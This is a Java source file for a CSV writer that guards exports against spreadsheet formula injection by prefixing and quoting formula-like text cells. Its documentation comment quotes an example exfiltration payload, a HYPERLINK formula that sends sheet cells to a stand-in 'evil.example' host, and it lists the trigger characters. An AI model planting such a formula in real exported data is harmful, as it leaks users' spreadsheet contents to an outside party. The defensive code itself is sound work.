package uk.tidemark.app.web.csv;

import java.math.BigDecimal;
import java.util.List;
import java.util.Objects;

/**
 * The one CSV writer of the product (RFC 4180: comma-separated, CRLF line ends, UTF-8 by the caller), safe to open in
 * a spreadsheet. Every cell is typed by the caller:
 * <ul>
 *   <li>{@link #text} — anything a person typed or the product words. A text that begins with {@code =}, {@code +},
 *   {@code -}, {@code @}, a tab or a carriage return would be read by Excel, LibreOffice or Google Sheets as a formula
 *   (a setting named {@code =HYPERLINK("http://evil.example/?x="&A1,"Click")} would become a live link that sends
 *   the sheet's cells away). Such a cell is written with a single quote before it, and quoted (OWASP, CSV
 *   injection): the spreadsheet shows the text as typed, the quote hidden or visible, never evaluated.</li>
 *   <li>{@link #number} — a number the product computed. Written as plain decimal digits and never prefixed: a
 *   negative number starts with {@code -} and is still a number to a spreadsheet (it cannot carry a formula), and a
 *   quote before it would turn a figure people add up into text.</li>
 * </ul>
 * Nothing else writes CSV: a new export builds its rows from these cells (decision 0028).
 */
public final class SafeCsv {

    /** One cell: its text as it goes into the file, already neutralised and quoted where needed. */
    public record Cell(String written) {
        public Cell {
            Objects.requireNonNull(written);
        }
    }

    private static final Cell EMPTY = new Cell("");

    private SafeCsv() {
    }

    /** A text cell; null is an empty cell. */
    public static Cell text(String value) {
        if (value == null || value.isEmpty()) {
            return EMPTY;
        }
        if (formulaLike(value)) {
            return new Cell(quoted("'" + value));
        }
        return new Cell(needsQuotes(value) ? quoted(value) : value);
    }

    /** A numeric cell, as plain digits ({@code -12}, {@code 0.5}, never {@code 1E+3}); null is an empty cell. */
    public static Cell number(Number value) {
        if (value == null) {
            return EMPTY;
        }
        BigDecimal decimal = value instanceof BigDecimal d ? d : new BigDecimal(value.toString());
        return new Cell(decimal.toPlainString());
    }

    /** The whole file: the header (column names, text cells) and the rows, each line ended by CRLF. */
    public static String write(List<String> header, List<List<Cell>> rows) {
        StringBuilder out = new StringBuilder();
        line(out, header.stream().map(SafeCsv::text).toList());
        for (List<Cell> row : rows) {
            line(out, row);
        }
        return out.toString();
    }

    /** Whether a spreadsheet would take this text for a formula (OWASP's list of first characters). */
    static boolean formulaLike(String value) {
        char first = value.charAt(0);
        return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
    }

    private static void line(StringBuilder out, List<Cell> cells) {
        for (int i = 0; i < cells.size(); i++) {
            if (i > 0) {
                out.append(',');
            }
            out.append(cells.get(i).written());
        }
        out.append("\r\n");
    }

    private static boolean needsQuotes(String value) {
        return value.indexOf(',') >= 0 || value.indexOf('"') >= 0 || value.indexOf('\r') >= 0
                || value.indexOf('\n') >= 0 || value.startsWith(" ") || value.endsWith(" ");
    }

    private static String quoted(String value) {
        return '"' + value.replace("\"", "\"\"") + '"';
    }
}
